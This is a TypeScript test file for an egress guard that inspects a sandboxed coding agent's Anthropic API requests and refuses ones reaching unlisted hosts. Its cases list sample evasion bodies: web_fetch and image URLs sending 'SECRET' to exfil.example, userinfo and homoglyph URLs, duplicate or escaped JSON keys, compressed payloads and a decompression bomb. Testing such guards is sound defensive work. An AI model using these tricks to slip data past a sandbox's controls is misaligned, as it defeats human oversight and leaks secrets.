// The LLM guard (sidecars/egress/llm-guard.ts) as tables: a Messages API request in, allow or
// refuse (with the reason code and what it names) out. Pure: no proxy, no sockets.
//
// fixtures/llm/claude-code-2.1.330.json holds the SHAPE of what the pinned Claude Code really
// sends (keys, block and tool types, tool names, beta headers; every text replaced by "…"),
// recorded from the agent image's own `claude -p` talking to test/e2e/fake-internet/servers.mjs
// as api.anthropic.com (a host entry and a test CA: Claude Code in first-party mode, as in a
// bottle, not with ANTHROPIC_BASE_URL, which changes what it sends), in the bottle's environment
// (OAuth placeholder, non-essential traffic off): a main turn, a turn after ToolSearch loaded
// WebSearch (a tool_reference block), the WebSearch sub-request, the turn after it, and a turn
// carrying an image the Read tool returned.
import test from "ava";
import fs from "node:fs";
import path from "node:path";
import { PassThrough } from "node:stream";
import zlib from "node:zlib";
import { fileURLToPath } from "node:url";
import { parseRoutesDocument, RouteSchema, type Route } from "../../contracts/routes.ts";
import { type ServerTools } from "../../contracts/server-tools.ts";
import { decodeBody, duplicateKey, LLM_BODY_CAP, parseStrictJson, readCapped } from "../../sidecars/egress/llm-body.ts";
import { guardBody, guardMessages, llmErrorBody, llmGate, urlProblem, type LlmDeny, type LlmPolicy, type LlmVerdict } from "../../sidecars/egress/llm-guard.ts";

const HERE = path.dirname(fileURLToPath(import.meta.url));
const CAPTURED = JSON.parse(fs.readFileSync(path.join(HERE, "fixtures", "llm", "claude-code-2.1.330.json"), "utf8")) as { what: string; headers: Record<string, string>; body: Record<string, unknown> }[];
const captured = (what: string) => structuredClone(CAPTURED.find((c) => c.what === what)!);

const ROUTES: Route[] = parseRoutesDocument({
  routes: [
    { host: "api.anthropic.com", auth: { scheme: "bearer", token_ref: "T" }, role: "claude_code_oauth" },
    { host: "docs.example.com" },
    { host: "*.docs.example.com" },
    { host: "*.wide.example" },
    { host: "api.github.com", path_allowlist: ["/repos/octo/allowed"], methods: ["GET", "HEAD"] },
    { host: "mcp.example.com", path_allowlist: ["/mcp"], methods: ["POST", "GET"] },
  ],
}).routes;
const DEFAULTS: ServerTools = { web_search: true, code_execution: false };
const POLICY: LlmPolicy = { routes: ROUTES, serverTools: DEFAULTS, superviseTool: "propose_egress_routes" };
const CC_BETAS = CAPTURED[0]!.headers["anthropic-beta"]!.split(",");

const user = (content: unknown) => [{ role: "user", content }];
const ask = (extra: Record<string, unknown>) => ({ model: "claude-model", max_tokens: 1024, messages: user("hi"), ...extra });
const tool = (type: string, more: Record<string, unknown> = {}) => ({ type, name: type.replace(/_\d{8}$/, ""), ...more });

type Expect = "allow" | { reason: LlmDeny["reason"]; subject?: RegExp; status?: number; ask?: Record<string, unknown> | "none" };
interface Case {
  title: string;
  body: unknown;
  betas?: string[];
  serverTools?: Partial<ServerTools>;
  expect: Expect;
}

function verify(t: import("ava").ExecutionContext, v: LlmVerdict, expect: Expect, title: string): void {
  if (expect === "allow") return void t.deepEqual(v, { action: "allow" }, title);
  if (v.action !== "deny") return void t.fail(`${title}: allowed, expected ${expect.reason}`);
  t.is(v.reason, expect.reason, `${title}: ${v.message}`);
  if (expect.subject) t.regex(v.subject, expect.subject, title);
  if (expect.status) t.is(v.status as number, expect.status, title);
  if (expect.ask === "none") t.is(v.howToAsk, undefined, title);
  else if (expect.ask) t.deepEqual(v.howToAsk, expect.ask as any, title);
}

// ---------------------------------------------------------------------------------------------

const cases: Case[] = [
  // What Claude Code sends passes.
  ...CAPTURED.map((c): Case => ({ title: `Claude Code 2.1.330: ${c.what}`, body: c.body, betas: c.headers["anthropic-beta"]!.split(","), expect: "allow" })),
  { title: "web_search, any dated version (family prefix)", body: ask({ tools: [tool("web_search_20260209"), tool("web_search_20260318", { allowed_domains: ["x.example"] })] }), expect: "allow" },
  { title: "web_search switched off", body: captured("websearch-subrequest").body, serverTools: { web_search: false }, expect: { reason: "llm_server_tool", subject: /^web_search_20250305$/, ask: { tool: "propose_server_tools", arguments: { server_tools: { web_search: true } } } } },
  { title: "code execution is off by default", body: ask({ tools: [tool("code_execution_20250825")] }), expect: { reason: "llm_server_tool", subject: /code_execution_20250825/, status: 403 } },
  { title: "code execution switched on", body: ask({ tools: [tool("code_execution_20260521")], container: "container_1" }), serverTools: { code_execution: true }, expect: "allow" },
  { title: "client-executed Anthropic tools, tool search, the advisor", body: ask({ tools: [tool("bash_20250124"), tool("text_editor_20250728"), tool("memory_20250818"), tool("computer_20251124"), { type: "tool_search_tool_regex", name: "tool_search_tool_regex" }, tool("tool_search_tool_bm25_20251119"), tool("advisor_20260301", { model: "m" }), { type: "custom", name: "mine", input_schema: { type: "object" } }] }), expect: "allow" },

  // web_fetch: only inside route hosts, subdomains included.
  { title: "web_fetch without allowed_domains", body: ask({ tools: [tool("web_fetch_20250910")] }), expect: { reason: "llm_host", subject: /^web_fetch_20250910$/ } },
  { title: "web_fetch with blocked_domains only", body: ask({ tools: [tool("web_fetch_20250910", { blocked_domains: ["evil.example"] })] }), expect: { reason: "llm_host" } },
  { title: "web_fetch to an unlisted domain", body: ask({ tools: [tool("web_fetch_20250910", { allowed_domains: ["exfil.example"] })] }), expect: { reason: "llm_host", subject: /exfil\.example/, ask: { tool: "propose_egress_routes", route: { host: "exfil.example" } } } },
  { title: "web_fetch to a routed host and its routed subdomains", body: ask({ tools: [tool("web_fetch_20260318", { allowed_domains: ["docs.example.com", "docs.example.com/blog", "a.b.wide.example"] })] }), expect: "allow" },
  { title: "web_fetch to a host routed exactly: its subdomains are not", body: ask({ tools: [tool("web_fetch_20250910", { allowed_domains: ["api.anthropic.com"] })] }), expect: { reason: "llm_host", ask: { tool: "propose_egress_routes", route: { host: "*.api.anthropic.com" } } } },
  { title: "web_fetch to a host whose route limits paths", body: ask({ tools: [tool("web_fetch_20250910", { allowed_domains: ["api.github.com"] })] }), expect: { reason: "llm_host", ask: "none" } },
  { title: "web_fetch to a parent of a narrower route", body: ask({ tools: [tool("web_fetch_20250910", { allowed_domains: ["mcp.example.com"] })] }), expect: { reason: "llm_host" } },
  { title: "web_fetch allowed_domains with a scheme", body: ask({ tools: [tool("web_fetch_20250910", { allowed_domains: ["https://docs.example.com"] })] }), expect: { reason: "llm_host", subject: /allowed_domains/ } },
  { title: "web_fetch allowed_domains as an IP", body: ask({ tools: [tool("web_fetch_20250910", { allowed_domains: ["10.0.0.1"] })] }), expect: { reason: "llm_host" } },

  // The MCP connector: every server URL admitted by a route for POST.
  { title: "MCP connector to the exfil sink's name", body: ask({ mcp_servers: [{ type: "url", url: "https://exfil.example/mcp", name: "x" }], tools: [{ type: "mcp_toolset", mcp_server_name: "x" }] }), betas: ["mcp-client-2025-11-20"], expect: { reason: "llm_host", subject: /mcp_servers\[0\].*exfil\.example/ } },
  { title: "MCP connector to a routed server", body: ask({ mcp_servers: [{ type: "url", url: "https://mcp.example.com/mcp", name: "x", authorization_token: "t" }], tools: [{ type: "mcp_toolset", mcp_server_name: "x" }] }), betas: ["mcp-client-2025-11-20"], expect: "allow" },
  { title: "MCP connector: a second server unrouted", body: ask({ mcp_servers: [{ type: "url", url: "https://mcp.example.com/mcp", name: "a" }, { type: "url", url: "https://exfil.example/", name: "b" }] }), expect: { reason: "llm_host", subject: /mcp_servers\[1\]/ } },
  { title: "MCP connector to a path the route does not allow", body: ask({ mcp_servers: [{ type: "url", url: "https://mcp.example.com/other", name: "x" }] }), expect: { reason: "llm_host", ask: { tool: "propose_egress_routes", route: { host: "mcp.example.com", path_allowlist: ["/mcp", "/other"], methods: ["POST", "GET"] } } } },
  { title: "MCP connector URL with userinfo", body: ask({ mcp_servers: [{ type: "url", url: "https://mcp.example.com@exfil.example/mcp", name: "x" }] }), expect: { reason: "llm_host" } },
  { title: "MCP connector URL on another port", body: ask({ mcp_servers: [{ type: "url", url: "https://mcp.example.com:8443/mcp", name: "x" }] }), expect: { reason: "llm_host" } },
  { title: "MCP connector URL with a dot segment", body: ask({ mcp_servers: [{ type: "url", url: "https://mcp.example.com/mcp/../admin", name: "x" }] }), expect: { reason: "llm_host" } },
  { title: "MCP server of an unknown type", body: ask({ mcp_servers: [{ type: "stdio", command: "sh" }] }), expect: { reason: "llm_unknown", subject: /^stdio$/ } },

  // Unknown things are refused, named.
  { title: "an unknown future server-tool type", body: ask({ tools: [tool("web_browser_20270101")] }), expect: { reason: "llm_unknown", subject: /^web_browser_20270101$/, status: 403, ask: "none" } },
  { title: "a new family under a known prefix", body: ask({ tools: [{ type: "browser_toolset_20260801" }] }), expect: { reason: "llm_unknown", subject: /browser_toolset_20260801/ } },
  { title: "a known family spelled in another case", body: ask({ tools: [tool("Web_Fetch_20250910", { allowed_domains: ["exfil.example"] })] }), expect: { reason: "llm_unknown" } },
  { title: "a known type with trailing whitespace", body: ask({ tools: [{ type: "web_fetch_20250910 ", name: "web_fetch" }] }), expect: { reason: "llm_unknown" } },
  { title: "a tool type that is not a string", body: ask({ tools: [{ type: ["web_fetch_20250910"], name: "web_fetch" }] }), expect: { reason: "llm_body", status: 400 } },
  { title: "an unknown top-level field", body: ask({ hello: "world" }), expect: { reason: "llm_unknown", subject: /^hello$/ } },
  { title: "a top-level field in another case", body: ask({ Tools: [tool("web_fetch_20250910")] }), expect: { reason: "llm_unknown", subject: /^Tools$/ } },
  { title: "tool_choice of an unknown type (a tool hidden in tool_choice)", body: ask({ tool_choice: { type: "web_fetch_20250910", allowed_domains: ["exfil.example"] } }), expect: { reason: "llm_unknown", subject: /web_fetch_20250910/ } },
  { title: "tool_choice naming a tool", body: ask({ tools: [{ name: "x", input_schema: { type: "object" } }], tool_choice: { type: "tool", name: "x" } }), expect: "allow" },

  // The conversation: tool definitions, replays, sources — wherever they are nested.
  { title: "a tool definition hidden in a tool_result", body: ask({ messages: user([{ type: "tool_result", tool_use_id: "t", content: [tool("web_fetch_20250910", { allowed_domains: ["exfil.example"] })] }]) }), expect: { reason: "llm_unknown", subject: /web_fetch_20250910/ } },
  { title: "a web_fetch replay (server_tool_use) to an unlisted host", body: ask({ messages: [{ role: "user", content: "go" }, { role: "assistant", content: [{ type: "server_tool_use", id: "srvtoolu_1", name: "web_fetch", input: { url: "https://exfil.example/?d=SECRET" } }] }] }), expect: { reason: "llm_host", subject: /exfil\.example/ } },
  { title: "a web_fetch replay nested in a tool_result", body: ask({ messages: user([{ type: "tool_result", tool_use_id: "t", content: [{ type: "server_tool_use", id: "s", name: "web_fetch", input: { url: "https://exfil.example/" } }] }]) }), expect: { reason: "llm_host" } },
  { title: "a web_fetch replay to a routed host", body: ask({ messages: [{ role: "assistant", content: [{ type: "server_tool_use", id: "s", name: "web_fetch", input: { url: "https://docs.example.com/a?b=c" } }] }] }), expect: "allow" },
  { title: "a replay of an unknown server tool", body: ask({ messages: [{ role: "assistant", content: [{ type: "server_tool_use", id: "s", name: "browser", input: {} }] }] }), expect: { reason: "llm_unknown", subject: /^browser$/ } },
  { title: "a code execution replay while it is off", body: ask({ messages: [{ role: "assistant", content: [{ type: "server_tool_use", id: "s", name: "bash_code_execution", input: { command: "curl" } }] }] }), expect: { reason: "llm_server_tool" } },
  { title: "a web_search replay while it is on", body: ask({ messages: [{ role: "assistant", content: [{ type: "server_tool_use", id: "s", name: "web_search", input: { query: "q" } }, { type: "web_search_tool_result", tool_use_id: "s", content: [{ type: "web_search_result", url: "https://exfil.example/", title: "t", encrypted_content: "e" }] }] }] }), expect: "allow" },
  { title: "an image from a URL on an unlisted host", body: ask({ messages: user([{ type: "image", source: { type: "url", url: "https://exfil.example/p.png?d=SECRET" } }]) }), expect: { reason: "llm_host", subject: /image source exfil\.example/ } },
  { title: "a document from a URL in a nested tool_result", body: ask({ messages: user([{ type: "tool_result", tool_use_id: "t", content: [{ type: "document", source: { type: "url", url: "http://exfil.example/x.pdf" } }] }]) }), expect: { reason: "llm_host" } },
  { title: "an image from a routed URL", body: ask({ messages: user([{ type: "image", source: { type: "url", url: "https://docs.example.com/p.png" } }]) }), expect: "allow" },
  { title: "a document of an unknown source type", body: ask({ messages: user([{ type: "document", source: { type: "remote", location: "https://exfil.example/" } }]) }), expect: { reason: "llm_unknown", subject: /^remote$/ } },
  { title: "inline, file and content sources", body: ask({ messages: user([{ type: "document", source: { type: "file", file_id: "f" } }, { type: "document", source: { type: "text", media_type: "text/plain", data: "x" } }, { type: "document", source: { type: "content", content: [{ type: "text", text: "x" }] } }]) }), expect: "allow" },
  { title: "a URL inside a client tool call's input (the API never acts on it)", body: ask({ messages: [{ role: "assistant", content: [{ type: "tool_use", id: "t", name: "WebFetch", input: { url: "https://exfil.example/", source: { type: "url", url: "https://exfil.example/" } } }] }] }), expect: "allow" },
  { title: "a container while code execution is off", body: ask({ container: { id: "c", skills: [{ type: "anthropic", skill_id: "pptx" }] } }), expect: { reason: "llm_server_tool", subject: /container/ } },
  { title: "a container_upload block while code execution is off", body: ask({ messages: user([{ type: "container_upload", file_id: "f" }]) }), expect: { reason: "llm_server_tool" } },
  { title: "nesting deeper than the guard follows", body: ask({ messages: user(JSON.parse("[".repeat(80) + "]".repeat(80))) }), expect: { reason: "llm_body", status: 400 } },

  // Beta headers.
  { title: "the code execution beta while it is off", body: ask({}), betas: [...CC_BETAS, "code-execution-2025-08-25"], expect: { reason: "llm_server_tool", subject: /code-execution-2025-08-25/ } },
  { title: "the skills beta while code execution is off", body: ask({}), betas: ["skills-2025-10-02"], expect: { reason: "llm_server_tool" } },
  { title: "the code execution beta while it is on", body: ask({}), betas: ["code-execution-2025-08-25"], serverTools: { code_execution: true }, expect: "allow" },
];

for (const c of cases) {
  test(`guardMessages: ${c.title}`, (t) => {
    verify(t, guardMessages(c.body, c.betas ?? [], { ...POLICY, serverTools: { ...DEFAULTS, ...c.serverTools } }), c.expect, c.title);
  });
}

// ---------------------------------------------------------------------------------------------
// Bodies as bytes: encodings, strict JSON, batches.

const WEB_FETCH_EXFIL = JSON.stringify(ask({ tools: [tool("web_fetch_20250910", { allowed_domains: ["exfil.example"] })] }));
const PLAIN = JSON.stringify(ask({}));
const hdr = (h: Record<string, string> = {}) => Object.fromEntries(Object.entries(h).map(([k, v]) => [k, [v]]));

interface BodyCase {
  title: string;
  body: Buffer | string;
  headers?: Record<string, string>;
  endpoint?: "messages" | "batches";
  expect: Expect;
}

const bodyCases: BodyCase[] = [
  { title: "gzip hides nothing", body: zlib.gzipSync(WEB_FETCH_EXFIL), headers: { "content-encoding": "gzip" }, expect: { reason: "llm_host" } },
  { title: "deflate hides nothing", body: zlib.deflateSync(WEB_FETCH_EXFIL), headers: { "content-encoding": "deflate" }, expect: { reason: "llm_host" } },
  { title: "br hides nothing", body: zlib.brotliCompressSync(WEB_FETCH_EXFIL), headers: { "content-encoding": "br" }, expect: { reason: "llm_host" } },
  { title: "stacked encodings are undone in reverse order", body: zlib.brotliCompressSync(zlib.gzipSync(WEB_FETCH_EXFIL)), headers: { "content-encoding": "gzip, br" }, expect: { reason: "llm_host" } },
  { title: "a clean gzip body passes", body: zlib.gzipSync(PLAIN), headers: { "content-encoding": "GZIP" }, expect: "allow" },
  { title: "an encoding egress cannot undo", body: PLAIN, headers: { "content-encoding": "zstd" }, expect: { reason: "llm_body", subject: /content-encoding/, status: 400 } },
  { title: "a body that is not the encoding it claims", body: PLAIN, headers: { "content-encoding": "gzip" }, expect: { reason: "llm_body", status: 400 } },
  { title: "gzip with trailing bytes after the stream", body: Buffer.concat([zlib.gzipSync(PLAIN), Buffer.from("{}")]), headers: { "content-encoding": "gzip" }, expect: { reason: "llm_body" } },
  { title: "a decompression bomb", body: zlib.gzipSync(Buffer.alloc(LLM_BODY_CAP + 1, 0x20)), headers: { "content-encoding": "gzip" }, expect: { reason: "llm_body_too_large", status: 413 } },
  { title: "the same key twice", body: `{"model":"m","max_tokens":1,"messages":[],"tools":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, expect: { reason: "llm_ambiguous" } },
  { title: "the same key twice, once \\u-escaped", body: `{"model":"m","max_tokens":1,"messages":[],"tools":[],"\\u0074ools":[]}`, expect: { reason: "llm_ambiguous" } },
  { title: "a nested tool's type twice", body: `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"custom","name":"x","type":"web_fetch_20250910"}]}`, expect: { reason: "llm_ambiguous" } },
  { title: "\\u-escapes in a tool type are read as the API reads them", body: `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_f\\u0065tch_2025\\u00309\\u00310","name":"web_fetch","allowed_domains":["exfil.example"]}]}`, expect: { reason: "llm_host", subject: /web_fetch_20250910/ } },
  { title: "a UTF-8 BOM", body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(PLAIN)]), expect: { reason: "llm_body" } },
  { title: "bytes that are not UTF-8", body: Buffer.concat([Buffer.from(PLAIN.slice(0, -1)), Buffer.from([0xc0, 0xaf]), Buffer.from("}")]), expect: { reason: "llm_body" } },
  { title: "UTF-16", body: Buffer.from(PLAIN, "utf16le"), expect: { reason: "llm_body" } },
  { title: "not JSON", body: "model=m&tools=web_fetch", expect: { reason: "llm_body" } },
  { title: "two JSON documents", body: PLAIN + PLAIN, expect: { reason: "llm_body" } },
  { title: "a batch entry hides web_fetch", body: JSON.stringify({ requests: [{ custom_id: "a", params: JSON.parse(PLAIN) }, { custom_id: "b", params: JSON.parse(WEB_FETCH_EXFIL) }] }), endpoint: "batches", expect: { reason: "llm_host" } },
  { title: "a batch with an unknown field", body: JSON.stringify({ requests: [], webhook: "https://exfil.example/" }), endpoint: "batches", expect: { reason: "llm_unknown", subject: /^webhook$/ } },
  { title: "a clean batch", body: JSON.stringify({ requests: [{ custom_id: "a", params: JSON.parse(PLAIN) }] }), endpoint: "batches", expect: "allow" },
  { title: "beta tokens across several headers", body: PLAIN, headers: { "anthropic-beta": "claude-code-20250219, Code-Execution-2025-08-25" }, expect: { reason: "llm_server_tool" } },
];

for (const c of bodyCases) {
  test(`guardBody: ${c.title}`, (t) => {
    verify(t, guardBody(c.endpoint ?? "messages", hdr(c.headers), Buffer.from(c.body), POLICY), c.expect, c.title);
  });
}

// ---------------------------------------------------------------------------------------------
// Which requests are read at all.

test("llmGate: only bodies on LLM routes to the API's /v1/ namespace are read; Messages endpoints in any case or trailing slash; other /v1/ bodies refused unread", (t) => {
  const llm = ROUTES[0]!;
  const body = hdr({ "content-length": "10" });
  t.deepEqual(llmGate(llm, "api.anthropic.com", "/v1/messages", body), { action: "read", endpoint: "messages" });
  t.deepEqual(llmGate(llm, "api.anthropic.com", "/V1/Messages/", body), { action: "read", endpoint: "messages" });
  t.deepEqual(llmGate(llm, "api.anthropic.com", "/v1/messages/count_tokens", hdr({ "transfer-encoding": "chunked" })), { action: "read", endpoint: "messages" });
  t.deepEqual(llmGate(llm, "api.anthropic.com", "/v1/messages/batches", body), { action: "read", endpoint: "batches" });
  t.like(llmGate(llm, "api.anthropic.com", "/v1/files", body), { action: "deny", reason: "llm_endpoint", status: 403 });
  t.like(llmGate(llm, "api.anthropic.com", "/v1/sessions", body), { action: "deny", reason: "llm_endpoint" });
  t.is(llmGate(llm, "api.anthropic.com", "/v1/messages", hdr({ "content-length": "0" })), "pass", "no body: nothing to read");
  t.is(llmGate(llm, "api.anthropic.com", "/v1/messages/batches/b1", {}), "pass");
  t.is(llmGate(llm, "api.anthropic.com", "/api/event_logging/batch", body), "pass", "Claude Code's own endpoints are not the Messages API");
  t.is(llmGate(ROUTES[1]!, "docs.example.com", "/v1/messages", body), "pass", "other routes' bodies stream through unread");
  t.deepEqual(llmGate(RouteSchema.parse({ host: "api.anthropic.com" }), "api.anthropic.com", "/v1/messages", body), { action: "read", endpoint: "messages" }, "an LLM API host is guarded even on a route without a role");
  t.deepEqual(llmGate(RouteSchema.parse({ host: "*.anthropic.com" }), "api.anthropic.com", "/v1/messages", body), { action: "read", endpoint: "messages" }, "…and through a wildcard route");
});

test("refusals: the Anthropic API's error shape, the reason, the supervise call; without supervise, no call", (t) => {
  const v = guardMessages(ask({ tools: [tool("web_search_20260209")] }), [], { ...POLICY, serverTools: { web_search: false, code_execution: false } }) as LlmDeny;
  const body = llmErrorBody(v);
  t.like(body, { type: "error", error: { type: "permission_error" }, claude_bottle: { blocked: true, reason: "llm_server_tool", subject: "web_search_20260209" } });
  t.regex((body.error as any).message, /web_search_20260209.*outside the bottle.*server_tools\.web_search: false.*propose_server_tools with \{"server_tools":\{"web_search":true\}\}/);
  const route = guardMessages(ask({ tools: [tool("web_fetch_20250910", { allowed_domains: ["exfil.example"] })] }), [], POLICY) as LlmDeny;
  t.regex(route.message, /reach exfil\.example, which no egress route allows.*propose_egress_routes with the FULL routes document.*\{"host":"exfil\.example"\}/);
  const off = guardMessages(ask({ tools: [tool("web_fetch_20250910", { allowed_domains: ["exfil.example"] })] }), [], { ...POLICY, superviseTool: undefined }) as LlmDeny;
  t.is(off.howToAsk, undefined);
  t.notRegex(off.message, /supervise/);
  const big = guardBody("messages", hdr({ "content-encoding": "gzip" }), zlib.gzipSync(Buffer.alloc(LLM_BODY_CAP + 1)), POLICY) as LlmDeny;
  t.like(llmErrorBody(big), { error: { type: "request_too_large" } });
});

test("urlProblem: plain https/http URLs to routed hosts only; refused spellings are never normalised", (t) => {
  t.is(urlProblem("https://docs.example.com/a/b?c=d", "GET", ROUTES), undefined);
  t.is(urlProblem("HTTPS://docs.example.com:443", "GET", ROUTES), undefined);
  t.is(urlProblem("https://api.github.com/repos/octo/allowed/x", "GET", ROUTES), undefined);
  for (const bad of ["https://api.github.com/repos/octo/other", "https://10.0.0.1/", "https://0x7f.1/", "https://docs.example.com\\@exfil.example/", "https://docs.example.com/%2e%2e/x", "https://docs.example.com/a b", "ftp://docs.example.com/", "//docs.example.com/", "https://docs.example.com:8443/", "https://dоcs.example.com/"]) {
    t.truthy(urlProblem(bad, "GET", ROUTES), bad);
  }
  t.truthy(urlProblem("https://api.github.com/repos/octo/allowed", "POST", ROUTES), "the route's methods count");
  t.truthy(urlProblem(42, "GET", ROUTES));
});

test("strict JSON: duplicate keys are found at any depth and after unescaping; strings holding quotes, braces and backslashes do not confuse the scan", (t) => {
  t.is(duplicateKey(`{"a":"x\\"y","b":"}{\\\\","c":[{"a":1},{"a":2}],"d":{"e":"\\\\\\"","f":{}}}`), undefined);
  t.like(duplicateKey(`{"a":{"b":1,"c":{"d":[1,{"e":1,"e":2}]}}}`), { key: "e" });
  t.like(duplicateKey(`{"\\u0061":1,"a":2}`), { key: "a" });
  t.like(duplicateKey(`[{"x":1},{"y":1,"y":1}]`), { key: "y" });
  t.is(duplicateKey(`{"k":"${"A".repeat(100_000)}","l":1}`), undefined);
  t.like(parseStrictJson(Buffer.from('{"a":1,"a":1}')), { ok: false, problem: { kind: "ambiguous" } });
  t.like(parseStrictJson(Buffer.from('{"a":"\\ud800"}')), { ok: true }, "lone surrogate escapes are JSON");
  t.like(decodeBody(Buffer.from("x"), ["identity"], 10), { ok: true });
  t.like(decodeBody(zlib.gzipSync("0123456789ab"), ["gzip"], 10), { ok: false, problem: { kind: "too_large" } });
});

test("readCapped: reads a body whole, stops as soon as it passes the cap, refuses a declared length over the cap unread, rejects a body cut short", async (t) => {
  const stream = (headers: Record<string, string>, chunks: string[], end = true) => {
    const s = Object.assign(new PassThrough(), { headers });
    setImmediate(() => {
      for (const c of chunks) s.write(c);
      if (end) s.end();
      else s.destroy();
    });
    return s;
  };
  t.deepEqual(await readCapped(stream({}, ["ab", "cd"]), 4), { body: Buffer.from("abcd") });
  t.deepEqual(await readCapped(stream({}, ["ab", "cde", "fgh"], false), 4), { tooLarge: 5 });
  const declared = stream({ "content-length": "5" }, []);
  t.deepEqual(await readCapped(declared, 4), { tooLarge: 5 });
  await t.throwsAsync(readCapped(stream({}, ["ab"], false), 4), { message: /closed the request/ });
});
